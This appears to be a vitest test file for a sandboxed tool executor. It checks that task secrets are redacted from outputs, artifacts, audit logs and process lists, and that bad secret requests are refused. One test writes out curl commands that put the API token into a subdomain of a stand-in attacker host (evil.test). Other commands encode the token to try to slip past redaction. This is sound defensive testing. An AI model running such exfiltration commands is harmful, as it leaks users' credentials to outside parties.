import { execFile } from "node:child_process";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { promisify } from "node:util";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import type { Result } from "../../src/model/result.ts";
import { testDocker } from "../support/bare-container.ts";
import { type Cli, openCli, printed } from "../support/cli.ts";
import { startServer } from "../support/server.ts";
import { until } from "../support/until.ts";

const token = "s3cr3t-T0ken-0123456789a";
const key = "-----BEGIN KEY-----\nline-one-of-the-key\nline-two-of-the-key\n-----END KEY-----\n";
const env = {
  TOOL_EXECUTOR_SECRET_default__API_TOKEN: token,
  TOOL_EXECUTOR_SECRET_other__THEIRS: "only-the-others-know",
};

let toolx: Cli;
beforeAll(async () => {
  toolx = await openCli();
});
afterEach(async () => {
  expect(await toolx.leftovers()).toEqual([]);
});
afterAll(async () => {
  await toolx[Symbol.asyncDispose]();
});

const run = (
  command: string,
  flags: readonly string[] = [],
  more: Readonly<Record<string, string>> = {},
): Promise<Result> =>
  toolx.result(["run", "shell", "--secret", "API_TOKEN", ...flags, "--", command], { env: { ...env, ...more } });

/** Everything that stands in a folder, whatever it is. */
async function holds(folder: string, what: string): Promise<boolean> {
  const found = await promisify(execFile)("grep", ["-rlaF", "--", what, folder]).catch(
    (error: { code?: number; stdout?: string }) => ({ stdout: error.code === 1 ? "" : `grep failed: ${error.code}` }),
  );
  return (found.stdout ?? "") !== "";
}

describe.each(["runc", "runsc"])("under %s", (runtime) => {
  const flags = ["--runtime", runtime];

  test("a task has its secret, and nothing that is told of it has", async () => {
    const command = `[ "$API_TOKEN" = ${token.slice(0, 6)}"${token.slice(6)}" ] && echo same
      echo "in: $API_TOKEN"; echo "$API_TOKEN" >&2; printf %s "$API_TOKEN" | base64; printf %s "$API_TOKEN" | od -An -tx1 | tr -d ' \\n'; echo
      for i in $(seq \${#API_TOKEN}); do printf %s "\${API_TOKEN:i-1:1}"; sleep 0.01; done; echo
      echo "{\\"progress\\": 0.5, \\"message\\": \\"$API_TOKEN\\"}" >&$TOOL_PROGRESS_FD
      echo "{\\"value\\": \\"$API_TOKEN\\"}" > /output/result.json; exit 0`;
    const result = await run(command, flags, { TOOL_EXECUTOR_SECRETS_IN_ARTIFACTS: "redact" });
    const mark = "[redacted:API_TOKEN]";
    expect(result.output.stdout).toBe(`same\nin: ${mark}\n${mark}\n${mark}\n${mark}\n`);
    expect(result.output.stderr).toBe(`${mark}\n`);
    // A file is masked byte by byte, so that its size is true.
    expect(result.output.value).toEqual({ value: "*".repeat(token.length) });
    expect(result.metrics.redactions).toBeGreaterThanOrEqual(6);
    for (const text of [token, Buffer.from(token).toString("base64"), Buffer.from(token).toString("hex")]) {
      expect(JSON.stringify(result)).not.toContain(text);
      expect(await holds(toolx.dataDir, text), text).toBe(false);
    }
  });

  test("as a file: whole, for the task alone, and no artifact", async () => {
    const folder = join(toolx.workDir, "secrets");
    await mkdir(join(folder, "default"), { recursive: true, mode: 0o700 });
    await writeFile(join(folder, "default", "SIGNING_KEY"), key, { mode: 0o600 });
    const payload = JSON.stringify({
      command:
        'stat -c "%a %s" $TOOL_SECRETS_DIR/*; sed -n 2p $TOOL_SECRETS_DIR/SIGNING_KEY; env | grep -c SIGNING_KEY',
    });
    const server = await startServer(toolx, { TOOL_EXECUTOR_SECRETS_DIR: folder });
    try {
      const { body } = await server.submit(
        {
          ...{ task_id: `as-file-${runtime}`, tool_name: "shell", payload: JSON.parse(payload), runtime },
          secrets: [{ name: "SIGNING_KEY", as: "file" }],
        },
        "60s",
      );
      const result = JSON.parse(body.toString()) as Result;
      expect(result.output.stdout).toBe(`400 ${key.trimEnd().length}\n[redacted:SIGNING_KEY]\n0\n`);
      expect(result.output.artifacts).toEqual([]);
    } finally {
      server.process.child.kill("SIGTERM");
      await server.process.ended();
    }
  });
});

test("while it runs, neither the container's settings nor any process's arguments have it", async () => {
  const task = toolx.start(["run", "shell", "--secret", "API_TOKEN", "--", "echo ready; sleep 60"], { env });
  await printed(task, "ready");
  const docker = testDocker();
  const containers = await docker.listContainers({ filters: { label: ["tool-executor.owner"] } });
  const facts = await Promise.all(containers.map(({ Id }) => docker.getContainer(Id).inspect()));
  const { stdout: processes } = await promisify(execFile)("sh", ["-c", "cat /proc/[0-9]*/cmdline | tr '\\0' ' '"]);
  expect(facts.length).toBeGreaterThan(0);
  expect(JSON.stringify(facts)).not.toContain(token);
  expect(processes).not.toContain(token);
  for (const folder of [toolx.dataDir, toolx.scratchDir, toolx.runtimeDir])
    expect(await holds(folder, token)).toBe(false);
  task.child.kill("SIGTERM");
  await task.ended();
});

describe("in what a task leaves", () => {
  const command = `echo "$API_TOKEN" > /output/note.txt; echo x > "/output/$API_TOKEN.txt"; echo fine > /output/fine.txt`;

  test("a name with it is left out, and a file with it is kept and told of", async () => {
    const { reason, output } = await run(command);
    expect(reason).toBe("ok");
    expect(output.artifacts.map(({ path, secrets }) => [path, secrets])).toEqual([
      ["fine.txt", []],
      ["note.txt", ["API_TOKEN"]],
    ]);
  });

  test("redact: text is kept without it", async () => {
    const { task_id } = await run(command, [], { TOOL_EXECUTOR_SECRETS_IN_ARTIFACTS: "redact" });
    await toolx.run(["artifacts", "pull", task_id ?? "", "--out", "redacted"]);
    expect(await readFile(join(toolx.workDir, "redacted/note.txt"), "utf8")).toBe(`${"*".repeat(token.length)}\n`);
    expect(await readFile(join(toolx.workDir, "redacted/fine.txt"), "utf8")).toBe("fine\n");
  });

  test("refuse: no file is kept, and the task has failed for it", async () => {
    const result = await run(command, [], { TOOL_EXECUTOR_SECRETS_IN_ARTIFACTS: "refuse" });
    expect(result).toMatchObject({ status: "failed", reason: "policy_denied", output: { artifacts: [] } });
    expect(result.error?.message).toContain("API_TOKEN");
    expect(JSON.stringify(result)).not.toContain(token);
  });
});

test.each([
  ["nobody's", ["--secret", "NOWHERE"], /policy_denied: .*tenant default has no secret NOWHERE/],
  ["another tenant's", ["--secret", "THEIRS"], /policy_denied: .*tenant default has no secret THEIRS/],
  ["a path", ["--secret", "../other/THEIRS"], /policy_denied|validation/],
  ["a pattern", ["--secret", "*"], /policy_denied|validation/],
  ["one that is a variable too", ["--secret", "API_TOKEN", "--env", "API_TOKEN=x"], /is a variable of env too/],
  ["one that is named twice", ["--secret", "API_TOKEN", "--secret", "API_TOKEN"], /stands there twice/],
])("%s is refused before anything runs (G22)", async (_what, flags, message) => {
  const { code, stdout, stderr } = await toolx.run(["run", "shell", ...flags, "--", "true"], { env });
  expect([code, stdout]).toEqual([2, ""]);
  expect(stderr).toMatch(message);
  expect(stderr).not.toContain("only-the-others-know");
});

test("one that is too short to be kept out is refused (D11), with no word of what it is", async () => {
  const { code, stderr } = await toolx.run(["run", "shell", "--secret", "PIN", "--", "true"], {
    env: { TOOL_EXECUTOR_SECRET_default__PIN: "48151" },
  });
  expect(code).toBe(2);
  expect(stderr).toMatch(/policy_denied: secret PIN is too short, must have at least 6 bytes/);
  expect(stderr).not.toContain("48151");
});

test("secrets, variables and arguments that are too large together are refused in one message, before anything is started", async () => {
  const [first, second] = ["abcdefg", "hijklmn"].map((text) => text.repeat(1150));
  const large = ["--env", `LARGE=${"y".repeat(120_000)}`, "--", "printf", "x".repeat(120_000)];
  const { code, stdout, stderr } = await toolx.run(["run", "shell", "--secret", "A", "--secret", "B", ...large], {
    env: { TOOL_EXECUTOR_SECRET_default__A: first ?? "", TOOL_EXECUTOR_SECRET_default__B: second ?? "" },
  });
  expect([code, stdout]).toEqual([2, ""]);
  expect(stderr).toMatch(/validation: what the task is started with is \d{6} bytes long as JSON, at most 260096: /);
  expect(stderr).not.toMatch(/xxx|yyy|abcdefg|hijklmn/);
});

test("a secret in the name of a host is in no record of the refusal, in lower case neither", async () => {
  const result = await run(
    `curl -s https://$API_TOKEN.evil.test/; curl -s https://$(printf %s "$API_TOKEN" | base64 | tr -d =).evil.test/; exit 1`,
    ["--allow", "allowed.test", "--task-id", "in-a-host"],
  );
  expect(result.egress.map(({ host }) => host)).toEqual([
    "[redacted:API_TOKEN].evil.test",
    "[redacted:API_TOKEN].evil.test",
  ]);
  const database = new DatabaseSync(join(toolx.dataDir, "tasks.db"), { readOnly: true });
  const rows = database.prepare("select detail from audit where task_id = 'in-a-host'").all();
  database.close();
  expect(rows).toHaveLength(2);
  for (const text of [token, token.toLowerCase(), Buffer.from(token).toString("base64").toLowerCase()])
    expect(JSON.stringify([result, rows])).not.toContain(text);
});

test("a secret whose two halves two executors hear is in neither's words", async () => {
  const live = await openCli({ ownHost: true });
  try {
    const first = await startServer(live, env);
    const [head, tail] = [token.slice(0, 12), token.slice(12)];
    const command = `echo before; printf %s "\${API_TOKEN:0:12}"; touch /workspace/half; sleep 6; echo "\${API_TOKEN:12}"; echo after`;
    await first.submit({
      ...{ task_id: "halves", tool_name: "shell", payload: { command }, limits: { timeout_seconds: 60 } },
      secrets: [{ name: "API_TOKEN", as: "env" }],
    });
    const log = async (): Promise<string> => (await first.ask("/v1/tasks/halves/logs")).body.toString();
    await until("it writes", async () => (await log()).includes("before"), 30_000);
    first.process.child.kill("SIGKILL");
    await first.process.ended();
    expect(await holds(live.scratchDir, head)).toBe(false);
    const second = await startServer(live, env);
    const result = await second.result("halves");
    expect(result).toMatchObject({ reason: "ok", attempt: 1, metrics: { redactions: 1 } });
    expect(result.output.stdout).toBe("before\n[redacted:API_TOKEN]\nafter\n");
    for (const part of [head, tail]) expect(await holds(live.dataDir, part), part).toBe(false);
    second.process.child.kill("SIGTERM");
    await second.process.ended();
    // What the killed one left that no task hangs on.
    await live.run(["gc"]);
    expect(await live.leftovers()).toEqual([]);
  } finally {
    await live[Symbol.asyncDispose]();
  }
});
